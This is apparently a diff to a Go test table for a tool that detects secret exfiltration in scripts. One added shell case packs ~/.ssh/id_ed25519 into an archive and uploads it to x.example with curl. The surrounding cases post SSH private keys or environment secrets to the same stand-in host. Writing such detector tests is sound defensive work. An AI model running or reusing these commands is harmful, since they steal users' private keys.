@@ -52,6 +52,8 @@ func findCases() map[string]findCase {
 		"one variable":              {[]Text{text("a.py", "import os, requests\nkey = os.environ['KEY']\nif 'A' in os.environ:\n    requests.post('https://x.example/', data=key)\n")}, ""},
 		"the user's host":           {[]Text{text("a.py", "import sys, requests\nkey = open('/home/me/.ssh/id_rsa').read()\nrequests.post(sys.argv[1], data=key)\n")}, ""},
 		"half of a key":             {[]Text{text("a.py", "import requests\nkey = open('/home/me/.ssh/id_rsa.pub').read()\nrequests.post('https://x.example/', data=key)\n")}, ""},
+		"a key that is used":        {[]Text{text("a.sh", "eval \"$(ssh-agent -s)\"\nssh-add ~/.ssh/id_ed25519 2>/dev/null\nchmod 600 ~/.ssh/id_ed25519\ncurl -fsSL https://x.example/health\n")}, ""},
+		"used, and packed":          {[]Text{text("a.sh", "ssh-add ~/.ssh/id_ed25519 && tar czf /tmp/kept.tgz ~/.ssh/id_ed25519\nsleep 1\ncurl -F f=@/tmp/kept.tgz https://x.example/in\n")}, "key:1 x.example:3 body"},
 		"what a comment says":       {[]Text{text("a.rb", "# reads ~/.ssh/id_rsa\nkept = File.read('a.txt')\nNet::HTTP.post(URI('https://x.example/'), kept)\n")}, ""},
 		"programs by themselves":    {[]Text{text("a.py", "key = open('/home/me/.ssh/id_rsa').read()\n"), text("b.py", "import requests\nrequests.post('https://x.example/', data=words)\n")}, ""},
 	}
